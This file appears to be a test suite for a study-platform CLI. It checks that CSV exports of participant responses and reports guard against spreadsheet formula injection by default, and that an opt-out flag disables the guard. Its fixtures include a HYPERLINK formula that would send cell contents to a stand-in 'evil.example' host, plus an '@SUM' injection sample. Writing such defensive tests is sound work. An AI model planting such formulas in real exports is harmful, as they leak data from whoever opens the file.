// The CLI's exports guard participants' text against spreadsheet formulas by default;
// `--no-guard-formulas` writes case-backend's exact bytes, and the choice is kept on the task and
// in the daily export settings.
import { mkdtemp, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { Writable } from "node:stream";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { dailyExportConfigs, reports, surveyResponses, tasks } from "@studyflow/db";
import { createStudy } from "@studyflow/domain/study-setup";
import { publishSurveyVersion } from "@studyflow/domain/surveys";
import { createTestDatabase, testRedisUrl, uniqueQueuePrefix, type TestDatabase } from "@studyflow/testkit";
import { startWorkerBesideApi } from "@studyflow/worker/testing";
import { runCommandLine } from "./run-command-line";

const STUDY = "guarded";
const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")';

const localised = (value: string) => [{ code: "en", parts: [{ dtype: "str", str: value }] }];
const survey = {
  surveyDefinition: {
    key: "notes",
    items: [
      {
        key: "notes.Q1",
        components: {
          role: "root",
          items: [
            { role: "title", content: localised("Anything else?") },
            { role: "responseGroup", key: "rg", items: [{ role: "input", key: "txt", content: localised("Text") }] },
          ],
        },
      },
    ],
  },
};

let database: TestDatabase;
let workDir: string;
let prefix: string;
let worker: { stop: () => Promise<void> };

beforeAll(async () => {
  database = await createTestDatabase();
  prefix = uniqueQueuePrefix();
  workDir = await mkdtemp(path.join(tmpdir(), "sf-cli-guard-"));
  const db = database.db;
  await createStudy(db, { key: STUDY });
  const version = await publishSurveyVersion(db, { studyKey: STUDY, actor: "test", survey }, { clock: Date.now });
  await db.insert(surveyResponses).values(
    [EVIL, "-5"].map((text, i) => ({
      studyKey: STUDY,
      participantId: `p${i}`,
      key: "notes",
      versionId: version.versionId,
      openedAt: 1_000 + i,
      submittedAt: 1_001 + i,
      arrivedAt: 1_002 + i,
      responses: [{ key: "notes.Q1", response: { key: "rg", items: [{ key: "txt", value: text }] } }],
    })),
  );
  await db.insert(reports).values({
    studyKey: STUDY,
    participantId: "p0",
    key: "note",
    eventType: "SUBMIT",
    timestamp: 1_000,
    data: [{ key: "text", value: "@SUM(A1:A9)" }],
  });
  worker = startWorkerBesideApi({ database, config: { QUEUE_PREFIX: prefix } }, workDir);
});
afterAll(async () => {
  await worker?.stop();
  await database?.drop();
});

const silent = new Writable({ write: (_chunk, _encoding, done) => done() });
const run = (argv: string[]) =>
  runCommandLine(database, argv, workDir, { env: { REDIS_URL: testRedisUrl, QUEUE_PREFIX: prefix }, progress: silent });

async function exported(argv: string[], out: string) {
  const result = await run([...argv, "--study", STUDY, "--out", out]);
  expect(result.stderr, result.stderr).toBe("");
  expect(result.exitCode).toBe(0);
  return readFile(path.join(workDir, out), "utf8");
}

const lastTask = async () =>
  (await database.db.select().from(tasks).where(eq(tasks.studyKey, STUDY))).sort(
    (a, b) => b.createdAt.getTime() - a.createdAt.getTime(),
  )[0]!;

describe("CLI exports and the formula guard", () => {
  it("export:responses guards by default; --no-guard-formulas writes the text as it came", async () => {
    const guarded = await exported(["export:responses", "--survey", "notes"], "guarded.csv");
    expect((await lastTask()).input).toMatchObject({ guardFormulas: true });
    const plain = await exported(["export:responses", "--survey", "notes", "--no-guard-formulas"], "plain.csv");
    expect((await lastTask()).input).toMatchObject({ guardFormulas: false });

    const quoted = `"${EVIL.replaceAll('"', '""')}"`;
    expect(plain).toContain(`,${quoted}\n`);
    expect(guarded).toContain(`,"'${EVIL.replaceAll('"', '""')}"\n`);
    // the number and the header are the same either way
    expect(guarded).toMatch(/,-5\n/);
    expect(guarded.split("\n")[0]).toBe(plain.split("\n")[0]);
    expect(guarded.replace(`'${EVIL.replaceAll('"', '""')}`, EVIL.replaceAll('"', '""'))).toBe(plain);
  });

  it("export:reports --format csv guards the data values by default, not with the flag", async () => {
    const guarded = await exported(["export:reports", "--format", "csv"], "reports.csv");
    const plain = await exported(["export:reports", "--format", "csv", "--no-guard-formulas"], "reports-plain.csv");
    expect(guarded.split("\n")[1]).toMatch(/,'@SUM\(A1:A9\)$/);
    expect(plain.split("\n")[1]).toMatch(/,@SUM\(A1:A9\)$/);
  });

  it("daily-export:set stores the guard on by default, off with --no-guard-formulas, and shows it", async () => {
    const on = await run(["daily-export:set", "--study", STUDY, "--surveys", "notes", "--json"]);
    expect(on.exitCode).toBe(0);
    expect(JSON.parse(on.stdout)).toMatchObject({ dailyExport: { options: { guardFormulas: true } } });
    const off = await run(["daily-export:set", "--study", STUDY, "--surveys", "notes", "--no-guard-formulas"]);
    expect(off.stdout).toMatch(/formula guard\s+off/);
    const [row] = await database.db.select().from(dailyExportConfigs).where(eq(dailyExportConfigs.studyKey, STUDY));
    expect(row?.options.guardFormulas).toBe(false);
  });
});
